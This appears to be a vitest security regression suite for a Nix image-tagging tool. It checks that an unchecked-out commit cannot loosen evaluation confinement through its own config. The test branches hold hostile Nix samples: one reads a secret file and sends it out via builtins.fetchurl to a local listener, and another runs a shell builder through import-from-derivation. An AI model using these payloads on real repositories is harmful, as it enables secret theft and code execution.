import { existsSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { nixtagCliAsync } from '../helpers/cli.js';
import { nixtag } from '../helpers/inProcess.js';
import { deployment, STALE } from '../helpers/expressions.js';
import { n2k8sTag, tempDir } from '../helpers/repo.js';
import { appImage, hookRepo, installHooks, type HookRepo } from '../helpers/hooks.js';
import { listener } from '../helpers/listener.js';
import { freshClone } from '../helpers/trees.js';

const IMAGE = 'registry.example.com/team/app';
const config = (extra = '') => `images:\n  - name: app\n    nix: default.nix\n    repository: ${IMAGE}\n${extra}`;

/** A repository whose main holds `rc` and the current tag. */
async function currentRepo(rc: string): Promise<HookRepo> {
  const repo = hookRepo({ '.nixtagrc.yaml': rc, 'k8s/app.yaml': deployment(`${IMAGE}:${STALE}`) });
  expect((await nixtag(repo.dir, ['fix'])).code).toBe(0);
  repo.commit('current tag');
  const tag = /app:([a-z0-9]{32})/.exec(repo.read('k8s/app.yaml'))![1]!;
  // The oracle: n2k8s's command in a fresh clone named source.
  expect(n2k8sTag(freshClone(repo.dir))).toBe(tag);
  return repo;
}

/**
 * Installs the pre-push hook (after the branches are made: a commit the hooks judge checked out is
 * the user's own, and a push of it may be answered from that judgement) and pushes main, HEAD.
 */
function pushMain(repo: HookRepo): void {
  expect(installHooks(repo, ['--git', '--pre-push']).code).toBe(0);
  const push = repo.run(['push', 'origin', 'main']);
  expect(push.code, push.stderr).toBe(0);
}

/** Commits `files` on a new branch off main, and goes back to main. */
function branch(repo: HookRepo, name: string, files: Record<string, string>): void {
  repo.git('checkout', '--quiet', '-b', name, 'main');
  repo.write(files);
  repo.commit(name);
  repo.git('checkout', '--quiet', 'main');
}

/**
 * adv13 F20: judging a commit that is not checked out (`check --rev`, a pushed ref) obeyed its
 * data configuration's `evaluation.restrictEval: false` (its expression read a file of this
 * machine's and sent it out) and `allowImportFromDerivation: true` (its builder ran). A
 * configuration loosens confinement only as far as HEAD's does.
 */
/**
 * `check --rev` and the pre-push hook (a real push) refuse the branch at the line of `.nixtagrc.yaml`
 * that loosens confinement, naming the opt-in; `harmless` says nothing of the branch's ran.
 */
async function refusedEverywhere(repo: HookRepo, name: string, line: number, harmless: () => void): Promise<void> {
  const refusedAt = (result: { code: number; stderr: string }) => {
    expect(result.stderr, name).toContain('[CONFIG_UNTRUSTED]');
    expect(result.stderr).toContain(`.nixtagrc.yaml:${line}:`);
    expect(result.stderr).toContain('NIXTAG_TRUST_CONFIG=1');
  };
  // In this process first: a listener here cannot answer while a push blocks it.
  const refused = await nixtag(repo.dir, ['check', '--rev', name]);
  harmless();
  expect(refused.code, refused.stderr).toBe(2);
  refusedAt(refused);
  pushMain(repo);
  const push = repo.run(['push', 'origin', name]);
  harmless();
  expect(push.code).not.toBe(0);
  refusedAt(push);
}

describe('a commit not checked out that loosens confinement', () => {
  it('is refused unless HEAD’s configuration grants as much, or NIXTAG_TRUST_CONFIG=1: restrictEval', async () => {
    const repo = await currentRepo(config());
    const http = await listener();
    const secret = path.join(tempDir('secret-'), 'token');
    const token = `s3cr3t-${process.pid}-${Date.now()}`; // fresh: Nix caches what fetchurl fetched
    writeFileSync(secret, `${token}\n`);
    // Only YAML and Nix change: no code configuration (cf. F11). The derivation stays the same.
    branch(repo, 'leak', {
      '.nixtagrc.yaml': config('evaluation:\n  restrictEval: false\n'),
      'default.nix': `let s = builtins.replaceStrings ["\\n"] [""] (builtins.readFile ${secret});
    x = builtins.fetchurl "http://127.0.0.1:${http.port}/leak/\${s}";
in builtins.seq x (import ./image.nix {})\n`,
      'image.nix': appImage,
    });
    await refusedEverywhere(repo, 'leak', 6, () => expect(http.requests).toEqual([]));
    // Confined by the command line, the same commit is judged: its expression cannot read the file.
    const confined = await nixtag(repo.dir, ['check', '--rev', 'leak', '--restrict-eval']);
    expect(confined.code).toBe(3);
    expect(http.requests).toEqual([]);
    // The opt-in obeys the commit's configuration.
    const trusted = await nixtagCliAsync(repo.dir, ['check', '--rev', 'leak'], { NIXTAG_TRUST_CONFIG: '1' });
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(http.requests).toEqual([`/leak/${token}`]);
    rmSync(secret);
  });

  it('is refused unless HEAD’s configuration grants as much: allowImportFromDerivation, whose builder would run', async () => {
    const repo = await currentRepo(config());
    const marker = path.join(tempDir('marker-'), 'ran');
    branch(repo, 'ifd', {
      '.nixtagrc.yaml': `allowImportFromDerivation: true\n${config()}`,
      'default.nix': `let gen = derivation { name = "gen"; system = builtins.currentSystem; builder = "/bin/sh";
      args = ["-c" "echo ran > ${marker}; echo 1 > $out"]; };
in builtins.seq (import gen) (import ./image.nix {})\n`,
      'image.nix': appImage,
    });
    await refusedEverywhere(repo, 'ifd', 1, () => expect(existsSync(marker)).toBe(false));
  });

  it('keeps the user’s own pushes as they were: the pushed commit is HEAD, or its configuration grants no more', async () => {
    // The user's own configuration loosens confinement: pushing HEAD is judged with it.
    const repo = await currentRepo(
      config('evaluation:\n  restrictEval: false\n  allowedUris: ["https://example.org/"]\n'),
    );
    // Another branch with the same configuration, a manifest changed: pushed while main is checked out.
    branch(repo, 'same', { 'k8s/other.yaml': repo.read('k8s/app.yaml') });
    // A configuration file that differs from HEAD's, but loosens nothing HEAD's does not.
    branch(repo, 'tighter', {
      '.nixtagrc.yaml': config(
        'evaluation:\n  timeout: 200\n  restrictEval: false\n  allowedUris: ["https://example.org/a/"]\n',
      ),
    });
    // The same settings moved to a file the configuration imports, which HEAD lacks.
    branch(repo, 'split', {
      '.nixtagrc.yaml': `$import: base.yaml\n${config()}`,
      'base.yaml': 'evaluation:\n  restrictEval: false\n  allowedUris: ["https://example.org/"]\n',
    });
    // One more it does not grant (an unconfined HEAD grants any URL) is refused, at its line.
    branch(repo, 'wider', {
      '.nixtagrc.yaml': config(
        'evaluation:\n  restrictEval: false\n  allowedUris: ["https://example.org/", "http://127.0.0.1/"]\nallowImportFromDerivation: true\n',
      ),
    });
    // A stale tag on a trusted branch is still caught.
    branch(repo, 'stale', { 'k8s/app.yaml': deployment(`${IMAGE}:${STALE}`) });
    expect((await nixtag(repo.dir, ['check', '--rev', 'tighter'])).code).toBe(0);
    pushMain(repo);
    for (const name of ['same', 'tighter', 'split']) {
      const push = repo.run(['push', 'origin', name]);
      expect(push.code, `${name}: ${push.stderr}`).toBe(0);
    }
    const wider = repo.run(['push', 'origin', 'wider']);
    expect(wider.code).not.toBe(0);
    expect(wider.stderr).toContain('[CONFIG_UNTRUSTED]: .nixtagrc.yaml sets allowImportFromDerivation: true, and HEAD');
    expect(wider.stderr).toContain('.nixtagrc.yaml:8:1');
    const stale = repo.run(['push', 'origin', 'stale']);
    expect(stale.code).not.toBe(0);
    expect(stale.stdout + stale.stderr).toContain('stale reference to app');
  });
});
